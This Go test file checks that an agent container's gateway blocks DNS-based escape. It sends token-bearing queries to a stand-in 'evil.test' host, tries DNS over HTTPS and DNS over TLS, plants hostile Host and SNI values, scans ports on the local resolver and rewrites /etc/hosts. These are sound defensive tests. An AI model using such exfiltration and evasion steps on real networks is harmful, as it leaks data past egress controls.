package gateway

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/agent-container/agent-container/spec"
)

// asked is a question to the place's resolver for a name with the token in it,
// which must be refused by its code.
func asked(suffix string, qtype uint16) try {
	return try{what: dns.TypeToString[qtype] + " of (token)" + suffix, want: denied("REFUSED"), do: func(a *attempt) error { return a.question(suffix, qtype) }}
}

// askedAt is a question to another resolver.
func askedAt(network, server string, w want) try {
	return try{what: "a question to " + server + " over " + network, want: w, do: func(a *attempt) error {
		_, err := a.ask(network, server, a.token+".evil.test", dns.TypeA)
		return err
	}}
}

// dnsRows are the rows C.
func dnsRows() []row {
	long := "." + strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + ".evil.test"
	return []row{
		{id: "C01", title: "a declared name has an address of the gateway's own", tries: []try{
			{what: "A of allowed.test", want: holds, do: func(a *attempt) error { return a.ownAddress("udp", "allowed.test") }}}},
		{id: "C02", title: "an undeclared name is REFUSED, and asked of nobody", tries: []try{asked(".evil.test", dns.TypeA)}},
		{id: "C03", title: "every kind of question, long labels", tries: []try{
			asked(".evil.test", dns.TypeTXT), asked(".evil.test", dns.TypeANY), asked(".evil.test", dns.TypeNULL), asked(".evil.test", dns.TypeCNAME), asked(".evil.test", dns.TypeHTTPS), asked(".evil.test", dns.TypeMX), asked(long, dns.TypeA),
			{what: "TXT of a declared name asks nobody", want: holds, do: func(a *attempt) error { return a.empty("allowed.test", dns.TypeTXT) }}}},
		{id: "C05", title: "other resolvers", tries: []try{
			askedAt("udp", server(66, 53), denied("REFUSED")), askedAt("tcp", server(66, 53), denied("REFUSED")), askedAt("udp", server(66, 5353), denied()), askedAt("tcp", server(66, 5353), denied()), askedAt("tcp", server(66, 853), denied()),
			askedAt("udp", "[2001:db8:1::66]:53", denied()), askedAt("tcp", "[2001:db8:1::66]:53", denied())}},
		{id: "C06", title: "the engine's own resolver, and the port where it really listens", tries: []try{
			askedAt("udp", "127.0.0.11:53", denied("REFUSED")), askedAt("tcp", "127.0.0.11:53", denied("REFUSED")),
			askedAt("udp", fmt.Sprintf("127.0.0.11:%d", enginePort), denied()), askedAt("tcp", fmt.Sprintf("127.0.0.11:%d", enginePort), denied()),
			{what: "no port of it is open, of 2,000 around that one", want: holds, do: func(a *attempt) error { return a.closed("127.0.0.11", enginePort-1000, enginePort+1000) }}}},
		{id: "C08", title: "DNS over HTTPS", tries: []try{
			fetch("by address", denied(), request{url: "https://198.51.100.66/dns-query?name="}), fetch("by name", denied(), request{url: "https://dns.evil.test/dns-query?name="})}},
		{id: "C09", title: "DNS over TLS", tries: []try{fetch("by address", denied(), request{url: "https://198.51.100.66:853/"})}},
		{id: "C10", title: "a name in a request is not looked up", tries: []try{
			head("Host: (token).evil.test", denied("403"), "GET / HTTP/1.1\r\nHost: TOKEN.evil.test\r\n\r\n"),
			head("GET http://(token).evil.test/", denied("403"), "GET http://TOKEN.evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
			{what: "a hello for (token).evil.test", want: denied(), do: func(a *attempt) error {
				return a.fetch(request{url: "https://allowed.test/", sni: a.token + ".evil.test"})
			}}}},
		{id: "C11", title: "who has an address", tries: []try{{what: "PTR of 198.51.100.66", want: holds, do: func(a *attempt) error {
			_, err := a.ask("udp", "127.0.0.11:53", "66.100.51.198.in-addr.arpa", dns.TypePTR)
			if err == nil || err.Error() != "REFUSED" {
				return fmt.Errorf("not REFUSED: %v", err)
			}
			return nil
		}}}},
		{id: "C14", title: "a declared name that is another's: followed, but to no private address", tries: []try{
			https("cname.wild.test", reaches(server(67, 443))), https("cname-private.wild.test", denied()), https("private.wild.test", denied()), https("shared.wild.test", denied()), https("meta.wild.test", denied()),
			https("loop.wild.test", denied()).controlled(func(a *attempt) error { return a.https("evil.test") }), https("pool.wild.test", denied()), http80("private.wild.test", denied()),
			https("mixed.wild.test", reaches(server(11, 443)))}},
		{id: "C15", title: "answers that no honest server gives", tries: []try{hostileTry(),
			https("many.wild.test", reaches(server(11, 443)))}},
		{id: "C17", title: "the files of name resolution, which the gateway shares with root", tries: []try{
			{what: "hosts says that allowed.test is evil.test's address", want: denied(), do: func(a *attempt) error {
				return a.fetch(request{url: "https://allowed.test/", to: server(66, 443)})
			}},
			{what: "the gateway does not read hosts", want: reaches(server(10, 443)), do: func(a *attempt) error {
				return a.withFile("/etc/hosts", "198.51.100.66 allowed.test\n", func() error { return a.byAddress("allowed.test") })
			}},
			{what: "the gateway does not read resolv.conf again", want: reaches(server(10, 443)), do: func(a *attempt) error {
				return a.withFile("/etc/resolv.conf", "nameserver 198.51.100.66\n", func() error { return a.byAddress("allowed.test") })
			}}}},
	}
}

func (t try) controlled(do func(*attempt) error) try { t.control = do; return t }

// ownAddress asks for a name's address, which must be out of the gateway's pool.
func (a *attempt) ownAddress(network, name string) error {
	m, err := a.ask(network, "127.0.0.11:53", name, dns.TypeA)
	if err != nil {
		return err
	}
	if len(m.Answer) != 1 {
		return fmt.Errorf("%d answers", len(m.Answer))
	}
	r, ok := m.Answer[0].(*dns.A)
	if addr, _ := netip.AddrFromSlice(r.A); !ok || !spec.GatewayPool.Contains(addr.Unmap()) {
		return fmt.Errorf("it is %v", m.Answer[0])
	}
	return nil
}

// empty asks what a declared name has no answer for; nobody else is asked, who
// would say something.
func (a *attempt) empty(name string, qtype uint16) error {
	m, err := a.ask("udp", "127.0.0.11:53", name, qtype)
	if err != nil {
		return err
	}
	if len(m.Answer) != 0 {
		return fmt.Errorf("%v", m.Answer)
	}
	return a.ownAddress("udp", name)
}

// closed looks for an open port.
func (a *attempt) closed(host string, from, to int) error {
	open, err := a.open(host, from, to)
	if err == nil && len(open) > 0 {
		err = fmt.Errorf("open: %v", open)
	}
	return err
}

// open returns the ports from one to another that take a connection. Go's own
// dialler takes longer for 65,535 of them than a test may.
func (a *attempt) open(host string, from, to int) ([]int, error) {
	var open []int
	addr := netip.MustParseAddr(host).As4()
	for port := from; port <= to && a.ctx.Err() == nil; port++ {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return nil, err
		}
		if unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: addr}) == nil && !toItself(fd, port) {
			open = append(open, port)
		}
		unix.Close(fd)
	}
	return open, a.ctx.Err()
}

// toItself reports whether a socket has met itself, by the chance of its own
// port being the one that it looks for.
func toItself(fd, port int) bool {
	own, err := unix.Getsockname(fd)
	at, ok := own.(*unix.SockaddrInet4)
	return err == nil && ok && at.Port == port
}

// byAddress fetches from a name at the address that the resolver gives for it,
// whatever the files say.
func (a *attempt) byAddress(name string) error {
	m, err := a.ask("udp", "127.0.0.11:53", name, dns.TypeA)
	if err != nil {
		return err
	}
	if len(m.Answer) == 0 {
		return errors.New("no address")
	}
	return a.fetch(request{url: "https://" + name + "/", to: m.Answer[0].(*dns.A).A.String() + ":443"})
}

// withFile does something while a file says something else, if the file can be
// written; for an agent it cannot.
func (a *attempt) withFile(path, text string, do func() error) error {
	before, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err == nil {
		defer func() { _ = os.WriteFile(path, before, 0o644) }()
	}
	return do()
}

// hostileTry asks for names with hostile answers, all at once: none may lead
// anywhere, and each must be given up.
func hostileTry() try {
	return try{what: "answers that are late, cut, forged, circular, too long", want: denied().slow(12 * time.Second), who: []string{"uid 1000"}, do: func(a *attempt) error {
		errs := make([]error, 0, len(hostile))
		var mu sync.Mutex
		var wg sync.WaitGroup
		for _, label := range []string{"silent", "truncated", "wrong-id", "wrong-question", "wrong-owner", "servfail", "long-chain", "circle", "only6"} {
			wg.Go(func() {
				err := a.https(label + ".wild.test")
				mu.Lock()
				defer mu.Unlock()
				if err == nil {
					err = errors.New(label + " led somewhere")
					errs = append(errs, err)
				}
			})
		}
		wg.Wait()
		if len(errs) > 0 {
			return nil
		}
		return errors.New("none led anywhere")
	}, control: func(a *attempt) error { return a.https("evil.test") }}
}
